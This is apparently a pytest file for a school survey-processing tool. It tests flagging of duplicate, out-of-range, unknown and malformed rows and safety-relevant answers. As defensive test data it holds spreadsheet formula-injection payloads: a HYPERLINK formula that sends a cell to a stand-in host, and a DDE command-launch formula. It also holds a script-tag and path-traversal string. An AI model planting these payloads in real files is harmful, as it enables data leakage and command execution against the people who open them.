"""Rows and cells that cannot be used: each named by file, row and the school's own column."""

import pytest
from programme_builder import SURVEY_HEADER, csv_text, mood_of, survey_row, write_sheets
from programme_run import run_whole

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"2")'
FORMULAS = [HYPERLINK, "=1+1", "+1+1", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0"]


def with_rows(inbox, *rows):
    """Drop the good rows and these after them; return the run."""
    inbox.survey(*inbox.rows(), *rows)
    return inbox.run_beside()


def test_a_student_who_is_there_twice(inbox):
    ran = with_rows(inbox, survey_row("S001", mood=mood_of(9, critical=3)))
    assert ran.places("D803") == [("survey.csv", 32, "Student")]
    assert ran.counts["survey.csv"] == (31, 30, 1, 0)
    assert ("S001", "endorsed", 32) in [(e.student_ref, e.reason, e.row) for e in ran.safety]


def test_a_student_who_is_there_twice_with_the_same_answers(inbox):
    ran = with_rows(inbox, inbox.rows()[0])
    assert ran.places("D801") == [("survey.csv", 32, "Student")]
    assert ran.counts["survey.csv"] == (31, 30, 1, 0)


@pytest.mark.parametrize("cell", ["4", "-1", "2.5", "99", "two", "0 1"])
def test_a_value_out_of_range(inbox, cell):
    rows = inbox.rows()
    rows[4][2 + 3] = cell
    inbox.survey(*rows)
    ran = inbox.run_beside()
    assert ran.places("V501") == [("survey.csv", 6, "Mood 4")]
    assert ran.counts["survey.csv"] == (30, 29, 1, 0)
    assert not any(row[0] == "S005" and row[3] == "self" for row in ran.scores)


def test_a_value_out_of_range_in_the_critical_item_itself_is_unclear(inbox):
    rows = inbox.rows()
    rows[4][10] = "4"
    inbox.survey(*rows)
    ran = inbox.run_beside()
    assert ran.places("V501") == [("survey.csv", 6, "Mood 9")]
    assert [(e.student_ref, e.reason) for e in ran.safety] == [
        ("S005", "unclear"),
        ("S007", "endorsed"),
    ]


def test_a_student_who_is_not_on_the_roster(inbox):
    ran = with_rows(inbox, survey_row("S777", mood=mood_of(0, critical=1)))
    assert ran.places("I601") == [("survey.csv", 32, "Student")]
    assert ran.counts["survey.csv"] == (31, 30, 1, 0)
    entry = next(entry for entry in ran.safety if entry.student_ref == "S777")
    assert (entry.reason, entry.identity, entry.school_id) == (
        *("endorsed", "identity unresolved", None),
    )


@pytest.mark.usefixtures("_no_way_out")
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_text_file_is_a_cell_like_any_other(inbox, formula):
    rows = inbox.rows()
    rows[4][2] = formula
    rows[5][10] = formula
    inbox.survey(*rows)
    ran = inbox.run_beside()
    assert ran.places("V501") == [("survey.csv", 6, "Mood 1"), ("survey.csv", 7, "Mood 9")]
    assert {(e.student_ref, e.reason) for e in ran.safety} == {
        ("S006", "unclear"),
        ("S007", "endorsed"),
    }
    assert not any(formula in each.line() for each in ran.problems)


@pytest.mark.usefixtures("_no_way_out")
def test_a_formula_in_a_workbook_is_found_and_not_evaluated(inbox):
    rows = inbox.rows()
    rows[4][2] = "=1+1"
    rows[5][10] = HYPERLINK
    write_sheets(inbox.inbox() / "survey.xlsx", {"A": [SURVEY_HEADER, *rows]})
    ran = inbox.run_beside()
    assert ran.places("V501") == [("survey.xlsx", 6, "Mood 1"), ("survey.xlsx", 7, "Mood 9")]
    assert ran.counts["survey.xlsx"] == (30, 28, 2, 0)
    assert {(e.student_ref, e.reason) for e in ran.safety} == {
        ("S006", "unclear"),
        ("S007", "endorsed"),
    }


@pytest.mark.usefixtures("_no_way_out")
def test_hostile_text_in_every_free_place_stays_text_in_everything_that_is_written(inbox):
    hostile = "<script>alert(1)</script>=1+1\"'&../../x"
    rows = [[*row, hostile] for row in inbox.rows()]
    rows.append([*survey_row(hostile, mood=mood_of(0, critical=1), on=hostile), hostile])
    inbox.drop("survey<b>.csv", csv_text([*SURVEY_HEADER, hostile], rows))
    inbox.roster_rows(
        *([f"S{number:03d}", "maple", "7", hostile, hostile, "yes"] for number in range(1, 31)),
    )
    outbox = run_whole(inbox.open())
    pages = list(outbox.rglob("*.html"))
    assert len(pages) > 30
    assert not any("<script" in page.read_text() or "<b>" in page.read_text() for page in pages)
    assert not [path for path in inbox.path.parent.rglob("*") if path.name == "x"]


def test_a_ragged_row_is_set_aside_and_somebody_reads_it(inbox):
    ran = with_rows(inbox, [*survey_row("S001"), "0"], survey_row("S002")[:-1], ["S003"])
    assert [row for _, row, _ in ran.places("F111")] == [32, 33, 34]
    assert ran.counts["survey.csv"] == (33, 30, 3, 0)
    assert [(e.row, e.reason) for e in ran.safety if e.reason != "endorsed"] == [
        (32, "not_read"),
        (33, "not_read"),
        (34, "not_read"),
    ]
